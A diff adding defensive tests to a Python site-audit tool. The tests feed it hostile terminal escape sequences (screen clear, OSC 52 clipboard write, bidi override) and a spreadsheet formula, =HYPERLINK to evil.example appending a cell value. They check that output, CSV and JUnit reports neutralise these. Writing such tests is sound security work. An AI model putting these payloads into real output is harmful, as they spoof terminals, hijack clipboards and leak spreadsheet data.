@@ -3,12 +3,25 @@ writes, tried as an attacker would with servers on 127.0.0.1."""
 
 from __future__ import annotations
 
+import csv
+import json
+import re
 import subprocess
 import sys
 import textwrap
+import xml.etree.ElementTree as ET
 from pathlib import Path
 
 from conftest import SITES
+
+from geoaudit.escape import CSV_FORMULA_STARTS
+from geoaudit.extract import build_page
+from geoaudit.models import FetchRecord, Finding
+from geoaudit.report import csv as csv_report
+from geoaudit.report import junit as junit_report
+from geoaudit.report.context import ReportContext
+from geoaudit.rules import load_rules
+from geoaudit.store import Store
 
 LISTEN_PROBE = textwrap.dedent(
     """
@@ -42,3 +55,80 @@ def test_a_crawl_opens_no_listening_socket(serve, tmp_path):
     assert proc.returncode == 0, proc.stderr
     assert "LISTENING []" in proc.stdout, proc.stdout
     assert not (tmp_path / "home").exists(), "the crawl wrote to the user's profile folder"
+
+
+# Site text that would drive a terminal: clear screen, window title, OSC 52 clipboard write,
+# C1 CSI, a bidi override and a carriage return that rewrites the line.
+HOSTILE = "\x1b[2J\x1b]0;pwned\x07\x1b]52;c;ZXZpbA==\x07\x9b31m\u202eevil\rfake"
+RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")
+
+
+def no_raw_control(text: str) -> bool:
+    return RAW_CONTROL.search(text) is None
+
+
+def test_llms_validate_shows_hostile_lines_as_escapes(geoaudit_cli, tmp_path):
+    llms = tmp_path / "llms.txt"
+    llms.write_text(f"# Acme{HOSTILE}\n\n> Tools{HOSTILE}\n\n<b>{HOSTILE}</b>\n\n## Docs\n\n"
+                    f"- https://www.example.com/{HOSTILE}\n- [broken{HOSTILE}](\n", "utf-8")
+    for fmt in ("text", "json"):
+        result = geoaudit_cli("llms", "validate", str(llms), "--format", fmt)
+        assert result.code in (0, 1), result.stderr
+        assert no_raw_control(result.stdout + result.stderr), repr(result.stdout)
+    assert "\\x1b" in geoaudit_cli("llms", "validate", str(llms)).stdout
+
+
+def test_robots_shows_hostile_lines_as_escapes(geoaudit_cli, tmp_path):
+    robots = tmp_path / "robots.txt"
+    robots.write_text(f"User-agent: *\nContent-Signal: search=yes{HOSTILE}\nDisallow: /{HOSTILE}\n"
+                      f"Sitemap: https://www.example.com/s.xml{HOSTILE}\n", "utf-8")
+    for fmt in ("text", "json"):
+        result = geoaudit_cli("robots", str(robots), "--format", fmt)
+        assert result.code == 0, result.stderr
+        assert no_raw_control(result.stdout + result.stderr), repr(result.stdout)
+
+
+def test_diff_shows_hostile_findings_as_escapes(geoaudit_cli, tmp_path):
+    def report(messages: list[str]) -> Path:
+        path = tmp_path / f"r{len(messages)}.json"
+        findings = [{"rule": "CT001", "severity": "error", "category": "content", "message": m,
+                     "url": f"https://www.example.com/{HOSTILE}"} for m in messages]
+        path.write_text(json.dumps({"score": 50, "categories": {}, "findings": findings}), "utf-8")
+        return path
+
+    old, new = report([]), report([f"no title {HOSTILE}"])
+    for fmt in ("text", "json"):
+        result = geoaudit_cli("diff", str(old), str(new), "--format", fmt)
+        assert result.code == 0, result.stderr
+        assert no_raw_control(result.stdout + result.stderr), repr(result.stdout)
+
+
+def hostile_store(path: Path) -> Store:
+    store = Store.in_dir(path, fresh=True)
+    url = "https://www.example.com/"
+    html = ('<title>=HYPERLINK("https://evil.example/?"&A1)</title>'
+            '<script type="application/ld+json">{"@type": "@SUM(1+1)"}</script>')
+    fetch = FetchRecord(url=url, requested_url=url, status=200, content_type="text/html")
+    store.add_page(build_page(fetch, html.encode(), "utf-8"))
+    store.add_findings([Finding("CT002", "warning", "content", f"bad {HOSTILE}\x00", url)])
+    return store
+
+
+def test_csv_cells_from_site_text_are_never_formulas(tmp_path):
+    store = hostile_store(tmp_path)
+    csv_report.write(ReportContext(store, {}, load_rules()), tmp_path / "report.csv")
+    with open(tmp_path / "report.csv", encoding="utf-8", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert rows[0]["title"] == "'=HYPERLINK(\"https://evil.example/?\"&A1)"
+    assert rows[0]["structured_data_types"].startswith("'@")
+    for row in rows:
+        assert not any(str(v).startswith(CSV_FORMULA_STARTS) for v in row.values())
+
+
+def test_junit_stays_well_formed_with_control_characters(tmp_path):
+    store = hostile_store(tmp_path)
+    junit_report.write(ReportContext(store, {}, load_rules(), duration_s=1.0),
+                       tmp_path / "report.junit.xml")
+    tree = ET.parse(tmp_path / "report.junit.xml")
+    messages = [f.get("message") for f in tree.iter("failure")]
+    assert any("\\x1b" in m and "\\x00" in m for m in messages)
